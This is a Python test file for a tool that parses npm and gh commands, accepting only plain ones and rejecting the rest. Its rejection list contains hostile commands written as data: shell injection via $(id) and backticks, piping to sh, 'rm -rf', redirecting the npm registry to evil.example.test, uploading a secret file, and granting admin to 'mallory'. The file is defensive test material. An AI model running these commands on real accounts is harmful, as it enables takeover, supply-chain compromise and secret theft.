from __future__ import annotations

import shlex

import pytest

from hardenme.reports.calls import ProgramCall, placeholders, plain_call, plain_calls

BODY = (
    '{"name": "it\'s \\u00e9", "target": "branch", "enforcement": "active",'
    ' "conditions": {}, "rules": [{"type": "a && b | c"}]}'
)
TRUST = "npm trust github web --repo=a/b --file=release.yml --env=npm --allow-stage-publish"
RULESET = f"echo {shlex.quote(BODY)} | gh api -X POST repos/a/b/rulesets --input -"
FILTER = "del(.selected_actions_url) | .sha_pinning_required = true"
REWRITE = (
    f"gh api --hostname ghe.example.test repos/a/b/actions/permissions --jq '{FILTER}'"
    " | gh api -X PUT --hostname ghe.example.test repos/a/b/actions/permissions --input -"
)


def test_one_call_is_its_words() -> None:
    assert plain_calls("npm owner rm 'it'\"'\"'s' web") == (
        ProgramCall(("npm", "owner", "rm", "it's", "web")),
    )
    assert plain_call("gh api -X DELETE user/keys/1")[-1] == "user/keys/1"


def test_calls_in_a_row_are_each_one() -> None:
    calls = plain_calls(f"npm trust revoke --id=1 web && {TRUST}")
    assert [call.words[:3] for call in calls] == [
        ("npm", "trust", "revoke"),
        ("npm", "trust", "github"),
    ]


def test_a_body_is_what_echo_would_have_said() -> None:
    (call,) = plain_calls(RULESET)
    assert call.body == BODY
    assert call.words[-2:] == ("--input", "-")
    assert plain_call(RULESET) == ()


def test_a_setting_that_is_read_changed_and_written_back_is_one_call() -> None:
    (call,) = plain_calls(REWRITE)
    assert call.reads[-1] == FILTER
    assert call.words[2:4] == ("-X", "PUT")
    assert len(plain_calls(f"{REWRITE} && {REWRITE}")) == 2


@pytest.mark.parametrize(
    "command",
    [
        "",
        "rm -rf home",
        "gh",
        "npm owner rm a b; touch harm",
        "npm owner rm a b & touch harm",
        "npm owner rm a b > file",
        "npm owner rm a b || npm owner add c d",
        "npm owner rm a b && rm c",
        "npm owner rm a b &&",
        "npm owner rm $(id) b",
        "npm owner rm `id` b",
        "npm owner rm $HOME b",
        "npm owner rm 'a\nb' c",
        "npm owner rm 'a\\x0ab' c",
        "npm owner rm --force a",
        "npm owner rm '' a",
        "npm owner rm é a",
        "npm owner rm USER a",
        "npm dist-tag add web@VERSION latest",
        "gh api -X PUT orgs/acme/memberships/LOGIN -f role=admin",
        "gh api -X PUT orgs/acme/memberships/ANYTHING -f role=admin",
        """echo '{"reviewers": ["LOGIN"]}' | gh api -X PUT x --input -""",
        "npm trust github web --repo=_OWNER_/_REPO_",
        "gh api -X DELETE repos/a/../../user/keys/1",
        "gh api -X DELETE https://evil.example.test/x",
        "gh api -X DELETE 'repos/{owner}/x'",
        "gh api -X PATCH x -F name=@secret",
        "gh api -X PUT x --input file",
        "echo hello",
        "echo 'no json' | gh api -X POST x --input -",
        "echo '[]' | gh api -X POST x --input -",
        "echo -n '{}' | gh api -X POST x --input -",
        "echo '{}' | sh",
        "echo '{}' | npm owner rm a b",
        "echo '{}' | gh api -X POST x",
        "cat file | gh api -X POST x --input -",
        "gh api x --jq '.a = env' | gh api -X PUT x --input - | sh",
        "gh api x --jq '.a = $ENV' | gh api -X PUT x --input -",
        "gh api -X DELETE x --jq '.a' | gh api -X PUT x --input -",
        "gh api --paginate x --jq '.a' | gh api -X PUT x --input -",
        f"npm token revoke {'x' * 100_001}",
        # What no check prints, though each is one plain call of a known program.
        "npm install harm",
        "npm exec harm",
        "npm owner add mallory web",
        "npm access grant read-write acme:developers web",
        "npm access set mfa=none web",
        "npm access set status=public web",
        "npm config set registry=http://evil.example.test/ --location=user",
        "npm config set ignore-scripts=false --location=user",
        "npm profile enable-2fa auth-and-writes --registry https://evil.example.test",
        "npm unpublish web",
        "gh alias set x harm",
        "gh extension install mallory/gh-harm",
        "gh api -X DELETE repos/acme/web",
        "gh api -X PUT orgs/acme/memberships/mallory -f role=admin",
        "gh api -X PUT repos/acme/web/collaborators/mallory -f permission=admin",
        "gh api -X POST repos/acme/web/keys -f key=x -F read_only=false",
        "gh api -X PATCH repos/acme/web -F private=false",
        "gh api -X PATCH orgs/acme -F members_can_delete_issues=true",
        "gh api -X DELETE repos/acme/web/branches/main/protection/enforce_admins",
        "gh api --hostname -X -X DELETE user/keys/1",
        "gh api -X DELETE --hostname a.test --hostname b.test user/keys/1",
        (
            "gh api orgs/a/actions/permissions --jq '.a = env'"
            " | gh api -X PUT orgs/a/actions/permissions --input -"
        ),
        (
            "gh api orgs/a/actions/permissions --jq '.a = true'"
            " | gh api -X PUT orgs/b/actions/permissions --input -"
        ),
        (
            "gh api orgs/a/actions/permissions --jq '.a = true'"
            " | gh api --hostname b.test -X PUT orgs/a/actions/permissions --input -"
        ),
        (
            """echo '{"name": "x", "target": "branch", "enforcement": "active", "conditions": {},"""
            """ "rules": [], "bypass_actors": []}' | gh api -X POST repos/a/b/rulesets --input -"""
        ),
    ],
)
def test_anything_else_is_left_to_a_person(command: str) -> None:
    assert plain_calls(command) == ()


def test_what_has_to_be_filled_in_is_named_once() -> None:
    command = "npm trust github PACKAGE --repo=_OWNER_/_REPO_ --env=PACKAGE"
    assert placeholders(command) == ("PACKAGE", "_OWNER_", "_REPO_")
    assert placeholders("gh api -X DELETE repos/a/b/secrets/NPM_TOKEN -f a=~ALL") == ()
